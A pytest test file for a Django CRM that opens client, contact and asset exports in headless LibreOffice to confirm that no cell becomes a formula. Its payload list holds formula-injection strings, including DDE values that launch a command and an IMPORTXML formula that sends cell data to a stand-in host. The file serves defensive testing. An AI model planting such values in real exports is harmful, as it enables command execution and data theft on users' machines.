"""A spreadsheet program itself opens every export: no cell has become a formula, and negative amounts still add up."""

from __future__ import annotations

import re
import shutil
import subprocess
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from clients.models import DailyAsset
from crm.core.importing.problems import Problem
from crm.core.importing.rejects import line, write
from crm.core.models import Branch, Policy, User
from tests.factories.clients import ClientFactory, ContactLogFactory

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.long,
    pytest.mark.skipif(shutil.which("soffice") is None, reason="no LibreOffice (apt-get install libreoffice-calc)"),
]

#: What begins a formula in one program or another (ASVS 1.2.10): also in full width, behind blanks and quotes, and as a command.
PAYLOADS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"),
    *("＝1+1", "＋1", "－1", "＠x", "'=1+1", '"=1+1"', ";=1+1", "1;=1+1"),
    *('=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    *("@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x",A1),"//a")', '=DDE("cmd";"/C calc";"x")'),
]


def opened(body: bytes, folder: Path, form: str) -> str:
    """The file as LibreOffice has read it, as flat XML."""
    (folder / f"x.{form}").write_bytes(body)
    # 44: comma; 34: quotes; 76: UTF-8. Formulas in text files are read as such, which is the unkind setting.
    reading = ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"] if form == "csv" else []
    command = ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", *reading]
    command += ["--convert-to", "fods", "--outdir", str(folder), str(folder / f"x.{form}")]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return (folder / "x.fods").read_text("utf-8")


def formulas(sheet: str) -> list[str]:
    return re.findall(r'table:formula="[^"]*"', sheet)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["clients", "contacts", "assets"])
def test_no_export_holds_a_formula(
    branch: Branch, staff: Callable[..., User], web: Callable[[User], Any], tmp_path: Path, kind: str, form: str
) -> None:
    Policy.objects.filter(policy_key_id="export.approval_above").update(value=1000)
    for at, payload in enumerate(PAYLOADS):
        client = ClientFactory(branch=branch, name=payload, city=payload[:40], total_assets=Decimal(-at))
        ContactLogFactory(client=client, content=payload, next_content=payload)
        sums = {"sum_net_assets": -at, "sum_turnover": 0, "sum_commission": 0, "days_on_file": 1}
        DailyAsset.objects.create(client=client, day=date(2026, 6, 1), net_assets=Decimal(-at), **sums)
    said = {"form": form, "reason": "季度核对", "form_token": "x", "since": "2026-05-01", "until": "2026-06-30"}

    answer = web(staff("branch_manager")).post(f"/clients/export/?kind={kind}", said)

    sheet = opened(answer.content, tmp_path, form)
    assert (answer.status_code, formulas(sheet)) == (200, [])
    assert sheet.count("1+1") >= 5 or kind == "assets"
    if kind != "contacts":
        amounts = [Decimal(found) for found in re.findall(r'office:value="(-[0-9.]+)"', sheet)]
        assert sum(amounts) == -sum(range(len(PAYLOADS)))


def test_the_file_of_rejected_rows_holds_none_either(tmp_path: Path) -> None:
    with (tmp_path / "rejects.csv").open("w", encoding="utf-8-sig", newline="") as file:
        write(file, [line(2, Problem("city", payload, "bad", payload)) for payload in PAYLOADS])

    sheet = opened((tmp_path / "rejects.csv").read_bytes(), tmp_path, "csv")

    assert formulas(sheet) == []
    assert sheet.count("1+1") >= 5


def test_the_spreadsheet_would_show_a_formula_where_there_is_one(tmp_path: Path) -> None:
    """The twin: a file that nobody has made safe."""
    assert formulas(opened(b"a,b\r\n=1+1,2\r\n", tmp_path, "csv"))
